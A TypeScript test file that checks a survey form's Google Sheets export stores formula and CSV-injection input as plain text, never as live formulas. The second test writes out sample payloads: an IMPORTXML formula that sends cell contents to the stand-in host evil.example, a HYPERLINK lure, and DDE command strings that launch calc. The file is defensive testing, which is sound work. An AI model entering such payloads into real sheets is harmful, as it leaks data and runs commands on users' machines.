// Bad input, formulas: a formula or CSV-injection payload in any text field reaches the sheet as plain text, exactly as typed.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { noteId } from '../../forms/schema.ts';
import { type Decision, decide } from '../../functions/core/outcome.ts';
import { cleanText } from '../../functions/core/parse.ts';
import type { Request } from '../../functions/sheet/cells.ts';
import { quoteSheet, SHEET_ID, sheetLayout, TAB } from '../../functions/sheet/layout.ts';
import { planBatch } from '../../functions/sheet/plan.ts';
import { clientFor } from '../../local/sheets/testing.ts';
import {
  campaign,
  cellsOf,
  emptyState,
  expectNoFormula,
  reading,
  SECRET,
  tokenOf,
  unitA,
  version,
  withPayload,
} from '../../testing/decisions.ts';
import { payload, REPLAYABLE } from '../../testing/hostile-text.ts';
import { linkOf, localModeAround, readTab } from '../../testing/local-mode.ts';
import { submit } from '../../testing/respondent.ts';

fc.configureGlobal(REPLAYABLE);

/** Every place a unit types free text, with the unit name and the respondent's Google email. */
const TEXT_FIELDS = [
  '11.text',
  ...campaign.sections.filter((s) => s.note).map((s) => noteId(s.id)),
  'contact.name',
  'contact.position',
  'contact.phone',
  'album',
  'unitName',
  'respondentEmail',
] as const;

/** The texts planned for one tab. */
const stringsIn = (requests: readonly Request[], sheetId: number) =>
  [...cellsOf(requests)]
    .filter((c) => c.sheetId === sheetId)
    .map((c) => c.cell.userEnteredValue?.stringValue)
    .filter((s): s is string => typeof s === 'string');

describe('formulas and CSV-injection payloads in every text field', () => {
  const layout = sheetLayout(campaign);
  const state = emptyState(campaign, layout);

  it('are planned as stringValue cells only, whatever the outcome, and kept as typed', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...TEXT_FIELDS),
        payload,
        fc.constantFrom('valid', 'forged', 'broken'),
        (field, text, how) => {
          const { raw, unitName } = withPayload(field, text);
          if (how === 'broken') raw.answers = { ...raw.answers, '2.count': text };
          const token = how === 'forged' ? 'AAAAAAAAAAAAAAAA' : tokenOf(unitA.id);
          const v = {
            ...version(2),
            ...(field === 'respondentEmail' ? { respondentEmail: text } : {}),
          };
          const decision: Decision = decide(campaign, SECRET, v, reading(raw, unitName, token));
          const plan = planBatch(
            campaign,
            layout,
            state,
            [decision],
            v.lastSubmittedTime,
            new Date(),
            'b1',
          );
          expectNoFormula(plan.requests);
          const cleaned = cleanText(text);
          if (decision.outcome.kind === 'accepted' && cleaned !== '') {
            const data = stringsIn(plan.requests, SHEET_ID.data);
            if (field === '11.text' || field.endsWith('.note')) expect(data).toContain(cleaned);
            if (field.startsWith('contact.')) expect(data).toContain(cleaned.replace(/\s+/g, ' '));
            if (field === 'album' && decision.outcome.checked.report.albumUrl)
              expect(data).toContain(decision.outcome.checked.report.albumUrl);
          }
          if (field === 'unitName' && text.trim() !== '') {
            expect(stringsIn(plan.requests, SHEET_ID.log)).toContain(text);
          }
        },
      ),
      { numRuns: 600 },
    );
  });
});

describe('formulas typed in the form, through local mode', () => {
  const started = localModeAround();

  it('reach "Số liệu" and "Nhật ký" as text, equal to what was typed, and no cell holds them as a formula', async () => {
    const local = started();
    const unitId = 'p-tan-phong';
    const typed = {
      '11.text': '=IMPORTXML("http://evil.example/?leak="&A1,"//a")',
      '1.note': '=HYPERLINK("http://evil.example","Bấm vào đây")',
      '2.note': "=cmd|' /C calc'!A0",
      '3.note': '@SUM(1+1)',
      '10.note': '-2+3',
      'contact.name': "+cmd|' /C calc'!A0",
      'contact.position': '=1+1',
      'contact.phone': '+84 909 123 456',
      album: 'https://evil.example/=IMPORTXML(A1)',
    };
    await submit(local.campaign, linkOf(local, unitId), {
      answers: {
        '1.1.count': '2',
        '1.1.people': '40',
        '2.count': '3',
        '3.count': '4',
        '10.1.amount': '1.500.000',
        '11.text': typed['11.text'],
        '1.note': typed['1.note'],
        '2.note': typed['2.note'],
        '3.note': typed['3.note'],
        '10.note': typed['10.note'],
      },
      contact: {
        name: typed['contact.name'],
        position: typed['contact.position'],
        phone: typed['contact.phone'],
      },
      albumUrl: typed.album,
    });
    await local.standIns.forms.flushDeliveries();
    await local.runtime.sync('manual');
    const layout = sheetLayout(local.campaign);
    const keys = Object.keys(typed) as (keyof typeof typed)[];
    for (const render of ['FORMULA', 'UNFORMATTED_VALUE'] as const) {
      const row = (await readTab(local, TAB.data, render)).find((r) => r[0] === unitId) ?? [];
      for (const key of keys) {
        const col = layout.data.col[key === 'album' ? 'album' : key];
        expect([key, row[col ?? -1]]).toEqual([key, typed[key]]);
      }
      const log = (await readTab(local, TAB.log, render)).find(
        (r) => r[layout.log.col.unitId] === unitId,
      );
      const rawCell = String(log?.[layout.log.col.raw] ?? '');
      expect(rawCell.startsWith('{')).toBe(true);
      const json = JSON.parse(rawCell) as {
        answers: Record<string, string>;
        contact: Record<string, string>;
        albumUrl: string;
      };
      expect(json.answers['11.text']).toBe(typed['11.text']);
      expect(json.contact.name).toBe(typed['contact.name']);
      expect(json.albumUrl).toBe(typed.album);
    }
    // And the cells themselves hold string values, not formulas.
    const grid = await clientFor(local.standIns.sheets.url).spreadsheets.get({
      spreadsheetId: local.state.spreadsheetId,
      ranges: [quoteSheet(TAB.data), quoteSheet(TAB.log)],
      includeGridData: true,
    });
    const texts = new Set<string>(Object.values(typed));
    let seen = 0;
    for (const sheet of grid.data.sheets ?? []) {
      for (const d of sheet.data ?? []) {
        for (const r of d.rowData ?? []) {
          for (const cell of r.values ?? []) {
            const v = cell.userEnteredValue;
            if (v?.stringValue && texts.has(v.stringValue)) seen++;
            if (v?.formulaValue) expect(texts.has(v.formulaValue)).toBe(false);
          }
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(keys.length);
  }, 30_000);
});
